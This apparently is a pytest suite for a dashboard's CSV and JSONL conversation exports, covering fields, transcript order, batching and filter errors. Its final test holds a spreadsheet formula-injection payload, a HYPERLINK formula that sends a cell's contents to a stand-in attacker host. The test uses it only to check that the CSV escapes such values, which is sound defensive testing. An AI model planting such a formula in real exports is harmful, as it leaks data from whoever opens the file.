"""CSV and JSONL exports: the filtered list, streamed in keyset batches, one row per conversation."""
from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

from dashboard.conversations import search
from dashboard.conversations.models import Message
from dashboard.extensions import db
from tests import factories


def test_csv_has_every_field_for_the_filtered_conversations(login_as, customer, other_customer):
    agent = factories.make_agent(customer, "Front Desk")
    visitor = factories.make_visitor(customer, name="Ava Nguyen", email="ava@example.net")
    voice = factories.make_conversation(customer, agent, visitor, channel="voice", messages=3)
    factories.make_conversation(customer, agent, visitor, channel="chat")
    factories.make_conversation(other_customer, channel="voice")
    db.session.commit()
    response = login_as(customer).get("/conversations/export.csv?channel=voice")
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 1
    row = rows[0]
    assert row["conversation_id"] == str(voice.session_id)
    assert (row["agent"], row["visitor_name"], row["visitor_email"], row["visitor_phone"]) == (
        "Front Desk", "Ava Nguyen", "ava@example.net", "+14155550199")
    assert (row["call_minutes_used"], row["message_count"], row["channel"], row["status"]) == ("5.00", "3", "voice", "ended")
    assert (row["intent"], row["category"], row["sentiment"], row["action"]) == (
        "book_appointment", "scheduling", "0.6", "Confirm by email")
    for field in ("call_summary", "sentiment_justification", "category_description", "started_at", "ended_at",
                  "sentiment_detailed", "over_limit", "analysed_at"):
        assert field in row


def test_jsonl_carries_the_transcript(login_as, customer):
    conversation = factories.make_conversation(customer, messages=3)
    db.session.commit()
    response = login_as(customer).get("/conversations/export.jsonl")
    assert response.status_code == 200 and response.is_streamed
    lines = response.get_data(as_text=True).splitlines()
    assert len(lines) == 1
    record = json.loads(lines[0])
    assert record["conversation_id"] == conversation.session_id
    assert [m["content"] for m in record["messages"]] == ["Message number 0", "Message number 1", "Message number 2"]
    assert record["message_count"] == 3 and record["intent"] == "book_appointment"


def test_jsonl_transcripts_keep_each_message_as_said_in_the_order_said(login_as, customer):
    """The transcript's JSON is made by the database: the same fields, order and time format as the rest of the
    line (orjson's: "+00:00", microseconds only when there are some), any text escaped as JSON."""
    started = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    conversation = factories.make_conversation(customer, messages=0, created_at=started)
    awkward = 'She said "hi" \\ then\nleft\t\u0001 — café ✓'
    said = [("agent", "Third, stored first", started + timedelta(seconds=2, microseconds=7), None),
            ("visitor", awkward, started, None),
            ("tool_call", '{"q": 1}', started + timedelta(seconds=1), "lookup"),
            ("tool_result", "same second, stored later", started + timedelta(seconds=2, microseconds=7), "lookup")]
    for role, content, timestamp, tool in said:
        db.session.add(Message(session_id=conversation.session_id, role=role, content=content,
                               timestamp=timestamp, tool_name=tool))
    factories.make_conversation(customer, messages=0, created_at=started - timedelta(days=1))
    db.session.commit()
    body = login_as(customer).get("/conversations/export.jsonl").get_data(as_text=True)
    first, empty = (json.loads(line) for line in body.splitlines())
    assert first["messages"] == [
        {"role": "visitor", "content": awkward, "timestamp": "2026-01-02T03:04:05+00:00", "tool_name": None},
        {"role": "tool_call", "content": '{"q": 1}', "timestamp": "2026-01-02T03:04:06+00:00", "tool_name": "lookup"},
        {"role": "agent", "content": "Third, stored first", "timestamp": "2026-01-02T03:04:07.000007+00:00",
         "tool_name": None},
        {"role": "tool_result", "content": "same second, stored later",
         "timestamp": "2026-01-02T03:04:07.000007+00:00", "tool_name": "lookup"}]
    assert [list(message) for message in first["messages"]] == [["role", "content", "timestamp", "tool_name"]] * 4
    assert first["started_at"] == "2026-01-02T03:04:05+00:00" and empty["messages"] == []


def test_batches_walk_every_row_once_in_order(app, customer):
    start = datetime.now(UTC) - timedelta(days=1)
    made = [factories.make_conversation(customer, messages=0, created_at=start + timedelta(minutes=i // 2))
            for i in range(7)]  # pairs share a timestamp
    db.session.commit()
    seen = [[row[0].session_id for row in rows]
            for rows in search.batches(search.listing(customer.customer_id, search.Filters()), 3)]
    assert [len(b) for b in seen] == [3, 3, 1]
    flat = [i for b in seen for i in b]
    expected = sorted(made, key=lambda c: (c.created_at, c.session_id), reverse=True)
    assert flat == [c.session_id for c in expected]


def test_invalid_export_filters_are_422(login_as, customer):
    response = login_as(customer).get("/conversations/export.csv?start=nope")
    assert response.status_code == 422 and "Enter a date for" in response.get_data(as_text=True)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_visitor_named_like_a_formula_is_text_in_the_csv_and_as_is_in_jsonl(login_as, customer):
    names = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn", "Plain - name", "-0.5"]
    for name in names:
        factories.make_conversation(customer, visitor=factories.make_visitor(customer, name=name))
    db.session.commit()
    client = login_as(customer)
    rows = list(csv.DictReader(io.StringIO(client.get("/conversations/export.csv").get_data(as_text=True),
                                           newline="")))
    assert sorted(row["visitor_name"] for row in rows) == sorted(
        ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tTab", "'\rReturn", "Plain - name", "-0.5"])
    assert {row["visitor_phone"] for row in rows} == {"+14155550199"}  # a number alone calls nothing
    lines = client.get("/conversations/export.jsonl").get_data(as_text=True).splitlines()
    assert sorted(json.loads(line)["visitor_name"] for line in lines) == sorted(names)
